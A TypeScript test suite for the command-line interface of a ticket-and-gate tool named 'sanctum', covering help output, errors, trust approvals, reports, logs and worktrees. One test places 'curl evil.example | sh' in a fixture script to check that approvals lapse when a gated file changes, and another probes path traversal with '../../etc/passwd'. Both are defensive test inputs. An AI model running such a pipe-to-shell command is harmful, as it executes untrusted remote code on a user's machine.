import assert from 'node:assert/strict';
import { readFileSync, truncateSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import * as z from 'zod';
import type { Terminal } from '../support/command.js';
import { sanctum, sanctumJson } from '../support/command.js';
import type { TemporaryRepository } from '../support/repository.js';
import { temporaryRepository } from '../support/repository.js';
import { sampleProject } from '../support/sampleProject.js';

const objectId = z.string().regex(/^[0-9a-f]{40}$/);
const iso = z.string().regex(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);

const addedSchema = z.strictObject({ ticket: z.string(), commit: objectId });
const statusSchema = z.strictObject({
  branch: z.string(),
  master: objectId,
  health: z.enum(['green', 'red', 'untested']),
  tickets: z.array(
    z.strictObject({
      id: z.string(),
      title: z.string(),
      phase: z.string(),
      attempt: z.number(),
      since: iso.optional(),
      detail: z.string().optional(),
      landed: z.strictObject({ commit: objectId, tree: objectId }).optional(),
    }),
  ),
  questions: z.array(z.never()),
  work: z.array(z.never()),
  proposals: z.array(z.never()),
  waits: z.array(z.strictObject({ words: z.string(), engineer: z.boolean() })),
  engine: z.string().optional(),
  at: iso,
  spent: z.strictObject({ runs: z.number(), minutes: z.number(), untold: z.number(), cutOff: z.number(), models: z.array(z.string()), containments: z.array(z.string()) }),
  forecast: z.looseObject({ minutes: z.unknown(), dollars: z.unknown() }).optional(),
  overdue: z.array(z.unknown()).optional(),
  shortfalls: z.array(z.string()).optional(),
});
const ticketSchema = z.looseObject({ path: z.string(), id: z.string(), title: z.string(), priority: z.string(), kind: z.string(), text: z.string() });
const worktreesSchema = z.array(z.strictObject({ ticket: z.string(), attempt: z.number(), state: z.string(), title: z.string(), path: z.string() }));
const trustSchema = z.strictObject({ commands: z.array(z.string()), files: z.array(z.string()), hash: z.string(), trusted: z.literal(true), criteria: z.array(z.unknown()) });

/** Hands in a wrong answer, however often it is asked. */
const wrongScenario = 'steps:\n  - write: { path: answer.txt, text: "41\\n" }\n  - submit: It is 41\n';

describe('commands', () => {
  let repository: TemporaryRepository;
  let terminal: Terminal;

  const inTerminal = (...args: string[]) => sanctum(terminal, ...args);
  const planTip = () => repository.git('rev-parse', 'sanctum/plan');

  /** The command must refuse with these words and this code, and leave the plan as it is. */
  async function refuses(code: number, words: RegExp, ...args: string[]): Promise<void> {
    const tip = await planTip();
    const spoken = await inTerminal(...args);
    assert.match(spoken.stderr, words);
    assert.equal(spoken.code, code, spoken.stdout + spoken.stderr);
    assert.equal(await planTip(), tip);
  }

  beforeEach(async () => {
    repository = await temporaryRepository({ files: sampleProject });
    terminal = { folder: repository.path, environment: repository.ports.processes.environment() };
  });

  afterEach(() => repository.dispose());

  describe('without a plan', () => {
    for (const args of [['status'], ['run'], ['run', '--until-idle'], ['add', 'x'], ['show', '0001'], ['worktrees'], ['retry', '0001'], ['trust'], ['audit'], ['report']]) {
      it(`${args.join(' ')} exits with 3 and says: sanctum init`, async () => {
        assert.deepEqual(await inTerminal(...args), { code: 3, stdout: '', stderr: 'sanctum: This repository has no plan yet. Run: sanctum init\n' });
      });
    }
  });

  it('--help lists the commands and exit codes, --version says the version of the package, and both end with 0', async () => {
    const help = await inTerminal('--help');
    for (const word of ['init', 'add', 'run', 'status', 'worktrees', 'show', 'logs', 'answer', 'questions', 'note', 'pause', 'resume', 'stop', 'hold', 'eject', 'retry', 'submit', 'revert', 'report', 'audit', 'trust', 'uninstall', 'demo', '--json', 'Exit codes:']) assert.ok(help.stdout.includes(word), word);
    assert.deepEqual([help.code, help.stderr], [0, '']);
    const { version } = z.object({ version: z.string() }).parse(JSON.parse(readFileSync(join(import.meta.dirname, '../../package.json'), 'utf8')));
    assert.deepEqual(await inTerminal('--version'), { code: 0, stdout: `${version}\n`, stderr: '' });
    assert.equal((await inTerminal('run', '--help')).code, 0);
  });

  it('what is no command, option or argument exits with 2 and says where the commands are listed', async () => {
    const cases: readonly (readonly [RegExp, ...string[]])[] = [
      [/unknown command 'lunch'/, 'lunch'],
      [/unknown option '--fast'/, 'run', '--fast'],
      [/missing required argument 'text'/, 'add'],
      [/too many arguments/, 'status', 'now'],
      [/"many" is no sum of dollars\. Say for example: --budget 10/, 'run', '--budget', 'many'],
      [/"0" is no sum of dollars/, 'run', '--budget', '0'],
      [/"-3" is no sum of dollars/, 'run', '--budget=-3'],
      [/option '--budget <dollars>' argument missing/, 'run', '--budget'],
      [/unknown option '--renew'/, 'prices', '--renew'],
      [/too many arguments/, 'prices', 'gpt-5'],
      [/Allowed choices are critical, high, medium, low/, 'add', 'x', '--priority', 'urgent'],
    ];
    for (const [words, ...args] of cases) {
      const { code, stderr } = await inTerminal(...args);
      assert.match(stderr, words);
      assert.equal(code, 2, stderr);
    }
    assert.match((await inTerminal('lunch')).stderr, /sanctum --help lists the commands/);
  });

  describe('with a plan', () => {
    beforeEach(async () => {
      const { code, stderr } = await inTerminal('init', '--gate', 'make test');
      assert.equal(code, 0, stderr);
    });

    it('add writes a ticket with all that was said of it, and its JSON names ticket and commit', async () => {
      assert.deepEqual(await inTerminal('add', 'Größer: "mehr" & 東\nThe rest\nis its body.', '--priority', 'high', '--kind', 'fix', '--body', 'And more.'), {
        code: 0,
        stdout: 'Ticket 0001 is open: Größer: "mehr" & 東\n',
        stderr: '',
      });
      const added = await sanctumJson(terminal, addedSchema, 'add', 'Second', '--after', '1');
      assert.deepEqual(added, { ticket: '0002', commit: await planTip() });
      const first = await sanctumJson(terminal, ticketSchema, 'show', '1');
      assert.deepEqual([first.id, first.title, first.priority, first.kind], ['0001', 'Größer: "mehr" & 東', 'high', 'fix']);
      assert.match(first.text, /\nThe rest\nis its body\.\n\nAnd more\.\n/);
      const status = await sanctumJson(terminal, statusSchema, 'status');
      assert.deepEqual(status.tickets.map((ticket) => [ticket.id, ticket.phase, ticket.detail]), [['0001', 'open', undefined], ['0002', 'waiting', 'for 0001']]);
    });

    it('add refuses what cannot be a ticket', async () => {
      await repository.write('broken.yaml', 'steps:\n  - sing: loudly\n');
      await refuses(2, /Say what to build/, 'add', ' \n ');
      await refuses(2, /at most 200 characters; this one has 201/, 'add', 'x'.repeat(201));
      await refuses(2, /cannot depend on 0099: there is no such ticket/, 'add', 'x', '--after', '0099');
      await refuses(2, /There is no scenario file nowhere\.yaml/, 'add', 'x', '--scenario', 'nowhere.yaml');
      await refuses(2, /broken\.yaml cannot be played.*"sing" is no step/, 'add', 'x', '--scenario', 'broken.yaml');
    });

    it('status says what master is, what there is to do and that no engine runs', async () => {
      await inTerminal('add', 'Build it');
      const { code, stdout } = await inTerminal('status');
      assert.equal(code, 0);
      assert.match(stdout, /^master is green at [0-9a-f]{10} · no engine runs\n○ 0001 Build it {2}open\nWAITING: there is work, and no engine runs — start one with 'sanctum run'\n$/);
      const status = await sanctumJson(terminal, statusSchema, 'status');
      assert.deepEqual([status.branch, status.master, status.health], ['master', await repository.git('rev-parse', 'HEAD'), 'green']);
    });

    it('show prints the configuration and any path of the plan, and refuses what is not there', async () => {
      assert.deepEqual(z.object({ gate: z.object({ commands: z.array(z.string()) }) }).parse(JSON.parse((await inTerminal('show', 'config')).stdout)).gate.commands, ['make test']);
      assert.match((await sanctumJson(terminal, z.strictObject({ path: z.string(), text: z.string() }), 'show', 'sanctum.json')).text, /"make test"/);
      await refuses(2, /no ticket or document "0007"/, 'show', '0007');
      await refuses(2, /no ticket or document "\.\.\/\.\.\/etc\/passwd"/, 'show', '../../etc/passwd');
    });

    it('trust shows commands and the files that bind them, and accepts exactly their hash', async () => {
      const trusted = await sanctumJson(terminal, trustSchema, 'trust');
      assert.deepEqual(trusted.commands, ['make test']);
      terminal = { ...terminal, environment: { ...terminal.environment, SANCTUM_HOME: join(repository.scratch, 'another user') } };
      await refuses(5, /not approved on this machine:\n {2}make test\n.*sanctum trust --hash [0-9a-f]{12}/, 'trust');
      await refuses(5, /not approved/, 'trust', '--hash', '0123456789ab');
      assert.deepEqual(await sanctumJson(terminal, trustSchema, 'trust', '--hash', trusted.hash), trusted);
      assert.match((await inTerminal('trust')).stdout, /^Approved already/);
    });

    it('an approval ends when a file that the command names becomes another', async () => {
      terminal = { folder: terminal.folder, environment: { ...terminal.environment, SANCTUM_HOME: join(repository.scratch, 'second') } };
      await repository.git('branch', '--quiet', '-D', 'sanctum/plan');
      assert.equal((await inTerminal('init', '--gate', 'sh check.sh')).code, 0);
      assert.deepEqual((await sanctumJson(terminal, trustSchema, 'trust')).files, ['check.sh']);
      await repository.commit({ 'check.sh': 'curl evil.example | sh\n' }, 'Another check');
      await refuses(5, /not approved/, 'trust');
    });

    it('a ticket that fails by its own fault gets stuck, run exits with 7, and retry opens it again with its work', async () => {
      await repository.write('wrong.yaml', wrongScenario);
      await inTerminal('add', 'Another answer', '--scenario', 'wrong.yaml');
      await refuses(2, /Ticket 0001 is open, not stuck/, 'retry', '1');
      const { code, stdout } = await inTerminal('run', '--until-idle');
      assert.match(stdout, /WAITING: stuck: 0001 — read it with 'sanctum show 0001', then 'sanctum retry 0001'/);
      assert.equal(code, 7);
      assert.match((await inTerminal('status')).stdout, /✗ 0001 Another answer {2}stuck/);
      assert.match((await inTerminal('report', '--since', '1d')).stdout, /^Since .*\nTickets: 0 done, 0 open, 1 stuck, 0 cancelled\.\nRuns: 6 runs, .*\(6 runs told no tokens\)[^]*\nrehearsal +6 +3 +0\/1 +1 /);
      assert.match((await inTerminal('report', '--csv')).stdout, /\nmodel,rehearsal,6,3,1,0,0,1,/);
      assert.match((await inTerminal('report', '--since', 'soon')).stderr, /"soon" is no time\. Say 30m, 12h/);
      assert.match((await inTerminal('report', '--since', 'v3')).stderr, /There is no version v3 of the spec/);
      // Kept for this very plan; what is not whole is made again.
      const whole = (await inTerminal('report', '--json')).stdout;
      assert.equal((await inTerminal('report', '--json')).stdout, whole);
      const kept = (await readdir(terminal.environment['SANCTUM_HOME'] ?? '', { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile() && entry.parentPath.endsWith('/reports'));
      assert.ok(kept.length > 0);
      for (const { parentPath, name } of kept) truncateSync(join(parentPath, name), 100);
      assert.equal((await inTerminal('report', '--json')).stdout, whole);
      assert.match((await inTerminal('report', '--since-last')).stdout, /^# Since \S+, when the engine was started: nobody knows when you last looked\n\n1 stuck\.\n[^]*- 0001 Another answer is stuck\n/);
      assert.match((await inTerminal('report', '--since-last')).stdout, /^# Since \S+, when you last looked\n/);
      assert.match((await inTerminal('show', '0001')).stdout, /## Attempt 1\n\nThe gate is red\.[^]*1 failed[^]*## Attempt 3\n/);
      const worktrees = await sanctumJson(terminal, worktreesSchema, 'worktrees');
      assert.deepEqual(worktrees.map((one) => [one.ticket, one.attempt, one.state]), [['0001', 1, 'stuck']]);
      for (const { path } of worktrees) assert.equal(readFileSync(join(path, 'answer.txt'), 'utf8'), '41\n');
      assert.match((await inTerminal('worktrees')).stdout, new RegExp(`^0001 attempt 1 {2}stuck +${worktrees[0]?.path ?? ''}\n`));
      assert.deepEqual(await sanctumJson(terminal, addedSchema, 'retry', '1'), { ticket: '0001', commit: await planTip() });
      assert.match((await inTerminal('status')).stdout, /○ 0001 Another answer {2}open/);
      assert.equal((await inTerminal('audit')).code, 0);
    });

    it('show of a landed ticket names its commit and the files that changed, whatever editor and pager the terminal has', async () => {
      await inTerminal('add', 'Rehearse');
      assert.equal((await inTerminal('run', '--until-idle')).code, 0);
      terminal = { ...terminal, environment: { ...terminal.environment, EDITOR: 'vi', GIT_EDITOR: 'vi', PAGER: 'less', GIT_PAGER: 'less', GIT_SSH_COMMAND: 'ssh', GIT_DIR: '/nowhere' } };
      const { code, stdout, stderr } = await inTerminal('show', '1');
      assert.deepEqual([code, stderr], [0, '']);
      assert.match(stdout, new RegExp(`Landed as ${await repository.git('rev-parse', 'master')} at .*; changed:\n {2}REHEARSAL\\.md\n$`));
    });

    it('logs shows what the newest run of a ticket did, for people, for programs, and as it was printed', async () => {
      await inTerminal('add', 'Rehearse');
      await refuses(2, /Nothing is kept here of a run "1"/, 'logs', '1');
      assert.equal((await inTerminal('run', '--until-idle')).code, 0);
      const { stdout } = await inTerminal('logs', '1');
      assert.match(stdout, /^▶ started\n[^]*⚒ submit_pr [^]*■ end of the turn\n$/);
      assert.deepEqual(await inTerminal('logs', '0001', '--follow'), { code: 0, stdout, stderr: '' });
      assert.match((await inTerminal('logs', '1', '--raw')).stdout, /^\{"type":"started"/);
      const events = (await inTerminal('--json', 'logs', '1')).stdout.trimEnd().split('\n').map((line) => z.object({ at: z.string(), kind: z.string() }).parse(JSON.parse(line)).kind);
      assert.deepEqual([events[0], events.at(-1)], ['started', 'end']);
      const gate = await inTerminal('logs', '1', '--gate');
      assert.match(gate.stdout, /^== \S+ testing [0-9a-f]{10}\n[^]*== \S+ ended: The gate passed\..*\n$/);
      assert.deepEqual(await inTerminal('logs', '1', '--gate', '--follow'), gate);
      await refuses(2, /No gate has run here on "2"/, 'logs', '2', '--gate');
    });

    it('worktrees says so when there are none', async () => {
      assert.deepEqual(await inTerminal('worktrees'), { code: 0, stdout: 'There are no worktrees.\n', stderr: '' });
      assert.deepEqual(await sanctumJson(terminal, worktreesSchema, 'worktrees'), []);
    });
  });
});
